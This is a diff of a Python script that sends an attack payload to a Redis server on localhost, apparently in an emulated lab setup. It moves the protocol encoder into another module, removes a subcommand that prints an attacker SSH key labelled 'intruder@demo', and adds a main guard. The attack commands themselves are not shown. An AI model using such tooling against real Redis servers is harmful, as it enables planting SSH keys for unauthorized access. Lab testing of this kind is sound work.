@@ -16,9 +16,7 @@ import json
 import socket
 import sys
 
-SERVER = ("127.0.0.1", 6379)
-# Seconds; an emulated machine may be slow, but nothing here takes that long.
-PATIENCE = 20
+from resp import PATIENCE, SERVER, encode
 
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBp98kSaWM4hodAL5taGnCnRGw5d2arZ/LbPXpujcWsM intruder@demo"
 
@@ -30,22 +28,13 @@ COMMANDS = (
 )
 
 
-def resp(*words):
-    """A command as redis clients send it."""
-    parts = [b"*%d\r\n" % len(words)]
-    for word in words:
-        data = word.encode()
-        parts.append(b"$%d\r\n%s\r\n" % (len(data), data))
-    return b"".join(parts)
-
-
 def attack():
     """The bytes of the attack."""
-    return b"".join(resp(*words) for words in COMMANDS)
+    return b"".join(encode(*words) for words in COMMANDS)
 
 
 def send():
-    """Sends them and gives the answers; one of a word less than sent means something happened."""
+    """Sends them in one piece; gives the answers and how the connection ended."""
     result = {"bytes": len(attack()), "replies": [], "end": "answered"}
     with socket.create_connection(SERVER, PATIENCE) as sock:
         result["port"] = sock.getsockname()[1]
@@ -89,8 +78,6 @@ def main(args):
     match args:
         case ["bytes"]:
             sys.stdout.buffer.write(attack())
-        case ["key"]:
-            print(KEY)
         case ["send"]:
             print(json.dumps(send()))
         case ["burst", count]:
@@ -99,4 +86,5 @@ def main(args):
             sys.exit(__doc__)
 
 
-main(sys.argv[1:])
+if __name__ == "__main__":
+    main(sys.argv[1:])
